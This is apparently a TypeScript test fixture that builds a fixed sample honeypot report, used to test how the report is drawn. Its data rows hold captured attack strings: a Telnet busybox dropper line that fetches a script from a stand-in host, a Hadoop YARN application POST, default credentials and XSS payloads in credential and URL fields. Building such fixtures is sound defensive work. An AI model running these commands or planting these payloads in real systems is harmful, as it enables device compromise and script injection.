// A report as a fortnight of a busy sensor would give it, the same every time: for tests of how it is drawn, and to look at.

import type { Report, ReportBucket } from '../../src/analysis/report/report.ts';

/** Numbers from 0 to 1 that look like chance. */
function chance(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

const iso = (time: number): string => new Date(time).toISOString().replace('Z', '000Z');
const from = Date.parse('2026-11-08T00:00:00Z');
const dayMs = 86_400_000;

function buckets(count: number, stepMs: number, scale: number): ReportBucket[] {
  const next = chance(count);
  return Array.from({ length: count }, (_, index) => {
    const burst = next() > 0.93 ? 6 : 1;
    const sessions = Math.round(scale * (0.5 + next()) * burst);
    const probes = Math.round(scale * 1.5 * next() * burst);
    const sources = Math.round(scale / 9 + (scale / 20) * next());
    return {
      start: iso(from + index * stepMs),
      hits: sessions + probes,
      sessions,
      probes,
      sources,
      ports: Math.min(65_000, Math.round((sessions + probes) * (burst > 1 ? 0.8 : 0.12 * next()))),
      destinations: Math.round(sources / 3),
      newSources: Math.round(sources / 4),
    };
  });
}

const row = (key: string, hits: number, sources: number, label?: string) => ({ key, hits, sources, ...(label ? { label } : {}) });

export const sampleReport: Report = {
  made: iso(from + 14 * dayMs + 6 * 3_600_000),
  from: iso(from),
  to: iso(from + 14 * dayMs),
  totals: {
    hits: 2_198_312,
    sessions: 812_400,
    probes: 1_385_912,
    sources: 4900,
    bytesIn: 91e6,
    alerts: 3,
    countries: 61,
    campaigns: 2,
    inside: 1,
  },
  brief: {
    sentences: ['4,900 sources made 812,400 sessions.'],
    actions: ['Look at 10.20.30.40 first: weir attacker 10.20.30.40.'],
    suspects: [
      {
        source: '10.20.30.40',
        firstSeen: iso(from),
        lastSeen: iso(from + dayMs),
        hits: 31,
        ports: 2,
        destinations: 7,
        behaviours: ['sweep'],
        tools: [],
        signatures: [],
        inside: true,
        reasons: ['its address is private', 'sweep'],
      },
    ],
  },
  days: buckets(14, dayMs, 60_000),
  halfHours: buckets(14 * 48, dayMs / 48, 1300),
  day: {
    date: '2026-11-08',
    halfHours: buckets(48, dayMs / 48, 1300),
    scans: Array.from({ length: 14 }, (_, index) => ({
      behaviour: (['port-scan', 'sweep', 'block-scan', 'slow-scan', 'two-phase-scan'] as const)[index % 5],
      source: `192.0.2.${index + 9}`,
      start: iso(from + index * 5_700_000),
      end: iso(from + index * 5_700_000 + (index % 4) * 3_000_000),
      hits: 900 * (index + 1),
      ports: index % 2 === 0 ? 65_307 : 1,
      hosts: index % 3 === 0 ? 1 : 254,
      ...(index % 4 === 0 ? { tool: 'masscan' } : {}),
      why: `${900 * (index + 1)} ports of one decoy within 5 minutes; the threshold is 15`,
    })),
  },
  ports: {
    byHits: [
      ['445', 90_000, 300, 'smb'],
      ['5038', 71_000, 4],
      ['22', 52_000, 900, 'ssh'],
      ['23', 41_000, 1400, 'telnet'],
      ['80', 30_000, 800, 'http'],
    ].map(([port, hits, sources, label]) => row(`${port}/tcp`, Number(hits), Number(sources), label as string | undefined)),
    bySources: [
      ['23', 41_000, 1400, 'telnet'],
      ['22', 52_000, 900, 'ssh'],
      ['6379', 9000, 850, 'redis'],
      ['80', 30_000, 800, 'http'],
      ['445', 90_000, 300, 'smb'],
    ].map(([port, hits, sources, label]) => row(`${port}/tcp`, Number(hits), Number(sources), label as string | undefined)),
  },
  countries: [
    ['US', 900],
    ['CN', 820],
    ['NL', 310],
    ['SG', 200],
    ['BR', 150],
    ['IN', 120],
    ['DE', 90],
    ['ZA', 12],
    ['HK', 160],
    ['AU', 3],
  ].map(([country, sources]) =>
    row(
      String(country),
      Number(sources) * 37,
      Number(sources),
      new Intl.DisplayNames(['en'], { type: 'region' }).of(String(country)),
    ),
  ),
  networks: [row('AS64500 Example Hosting', 90_000, 410), row('AS64501 Example Telecom', 20_000, 300)],
  behaviours: [
    row('port-scan', 310, 290),
    row('sweep', 900, 820),
    row('brute-force', 120, 100),
    row('silent-opener', 1400, 1300),
    row('two-phase-scan', 44, 40),
  ],
  signatures: [row('telnet-busybox-dropper', 9000, 610), row('hadoop-yarn-new-application', 220, 31), row('log4shell', 120, 17)],
  families: [
    {
      ...row('3fa9c1d2e4b5a697', 9000, 610, 'Telnet busybox dropper'),
      firstSeen: iso(from + 3e6),
      example: 'enable\\r\\nsystem\\r\\nshell\\r\\n/bin/busybox WGET http://192.0.2.1/m.sh; chmod 777 m.sh',
    },
    {
      ...row('77aa10b2c3d4e5f6', 220, 31, 'HTTP POST /ws/v1/cluster/apps'),
      firstSeen: iso(from + 9e8),
      example: 'POST /ws/v1/cluster/apps/new-application HTTP/1.1\\r\\nHost: 198.51.100.7:8088',
    },
  ],
  credentials: [row('root:root', 900, 300), row('admin:admin', 800, 310), row('root:<script>alert(1)</script>', 7, 1)],
  users: [row('root', 4000, 500), row('admin', 2000, 400)],
  passwords: [row('root', 1200, 310), row('123456', 900, 200)],
  urls: [row('http://192.0.2.1/m.sh', 9000, 610), row('http://198.51.100.9/"><img src=x onerror=alert(1)>', 3, 1)],
  attackers: Array.from({ length: 8 }, (_, index) => ({
    source: `203.0.113.${index + 5}`,
    country: 'NL',
    asn: 64_500,
    organization: 'Example Hosting B.V.',
    firstSeen: iso(from + index * 3e7),
    lastSeen: iso(from + 9e8),
    hits: 65_000 - index * 4000,
    ports: 65_307 - index * 9000,
    destinations: 1 + index,
    behaviours: ['port-scan', 'brute-force'],
    tools: index % 2 ? ['masscan'] : [],
    signatures: ['telnet-busybox-dropper'],
  })),
  campaigns: [
    {
      id: 'c0ffee11',
      label: 'Telnet busybox dropper from AS64500',
      start: iso(from),
      end: iso(from + 9 * dayMs),
      size: 212,
      hits: 40_000,
      bonds: ['family 3fa9c1d2e4b5a697', 'host 192.0.2.1'],
      members: Array.from({ length: 9 }, (_, index) => ({
        source: `203.0.113.${index + 5}`,
        firstSeen: iso(from),
        lastSeen: iso(from + 5 * dayMs),
        hits: 900 - index,
        reasons: ['same payload family as 211 others', 'names 192.0.2.1 as 190 others do'],
      })),
    },
  ],
  news: {
    since: iso(from + 13 * dayMs),
    because: 'last-report',
    sources: 312,
    ports: [row('47808/udp', 12, 3, 'bacnet'), row('60001/tcp', 9, 2)],
    portCount: 61,
    countries: [row('AU', 9, 3, 'Australia')],
    families: [
      {
        ...row('77aa10b2c3d4e5f6', 220, 31, 'HTTP POST /ws/v1/cluster/apps'),
        firstSeen: iso(from + 9e8),
        example: 'POST /ws/v1',
      },
    ],
    countryCount: 1,
    familyCount: 1,
    signatureCount: 1,
    signatures: [row('hadoop-yarn-new-application', 220, 31)],
    urls: [row('http://198.51.100.9/x', 3, 1)],
    urlCount: 1,
  },
  notes: ['Campaigns were looked for among the 2500 sources with most hits; there are more.'],
};
